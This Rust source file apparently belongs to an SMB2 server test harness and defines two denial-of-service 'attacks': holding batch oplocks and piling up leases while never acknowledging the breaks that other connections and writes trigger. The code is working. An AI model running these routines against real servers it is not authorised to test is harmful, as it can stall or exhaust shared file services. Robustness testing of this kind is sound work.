//! Oplocks and leases whose breaks are never acknowledged.

use anyhow::Result;
use client::Open;
use proto::bytes::utf16_bytes;
use proto::smb2::create::{CreateDisposition, CreateRequest};
use proto::smb2::create_context::{LeaseFlags, LeaseV2};
use proto::smb2::header::Command;
use proto::smb2::{LeaseState, OplockLevel};

use super::queue_create;
use crate::attack::Attack;
use crate::scene::Scene;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "oplocks.unacknowledged",
        what: "alice requests batch oplocks, opens the same files on other connections, and acknowledges no break",
        prepare: None,
        run: |scene| Box::pin(unacknowledged(scene)),
    },
    Attack {
        name: "oplocks.leases",
        what: "alice requests leases with different keys on one file, writes elsewhere, and acknowledges no break",
        prepare: None,
        run: |scene| Box::pin(leases(scene)),
    },
];

const FILES: u64 = 200;

async fn unacknowledged(scene: &Scene) -> Result<()> {
    scene
        .crowd(4, async || {
            let own = scene.number();
            let names: Vec<_> = (0..FILES).map(|number| utf16_bytes(&format!("oplock-{own}-{number}"))).collect();
            let mut holder = scene.raw(scene.wealthy().await?)?;
            for name in &names {
                let request = CreateRequest {
                    requested_oplock_level: OplockLevel::BATCH,
                    create_disposition: CreateDisposition::OPEN_IF,
                    ..Open::file("").request(name)
                };
                queue_create(&mut holder, &request);
                holder.send().await?;
                holder.answer().await?;
                scene.asked(1);
            }
            let mut others = Vec::new();
            for _ in 0..4 {
                let mut other = scene.raw(scene.wealthy().await?)?;
                for name in &names {
                    queue_create(&mut other, &Open::existing("").request(name));
                    other.exchange().await?;
                    scene.asked(1);
                }
                others.push(other);
            }
            holder.hold().await
        })
        .await
}

async fn leases(scene: &Scene) -> Result<()> {
    scene
        .crowd(2, async || {
            let own = scene.number();
            let name = utf16_bytes(&format!("leased-{own}"));
            let mut writer = scene.wealthy().await?;
            let file = writer.open(&Open::file(&format!("leased-{own}"))).await?;
            let mut writer = scene.raw(writer)?;
            let mut holder = scene.raw(scene.wealthy().await?)?;
            for key in 0u128.. {
                let lease = LeaseV2 {
                    lease_key: (key + 1).to_le_bytes(),
                    lease_state: LeaseState::READ_CACHING | LeaseState::HANDLE_CACHING,
                    flags: LeaseFlags::NONE,
                    parent_lease_key: [0; 16],
                    epoch: 0,
                };
                let request = CreateRequest {
                    requested_oplock_level: OplockLevel::LEASE,
                    create_contexts: vec![lease.to_context()],
                    ..Open::existing("").request(&name)
                };
                queue_create(&mut holder, &request);
                holder.exchange().await?;
                let write = proto::smb2::write::WriteRequest::new(file, 0, b"x");
                if key % 16 == 15 {
                    writer.queue(Command::WRITE, 1, |out| write.encode(out));
                    writer.exchange().await?;
                }
                scene.asked(1);
                if !holder.affords(1) || !writer.affords(1) {
                    break;
                }
            }
            holder.hold().await
        })
        .await
}
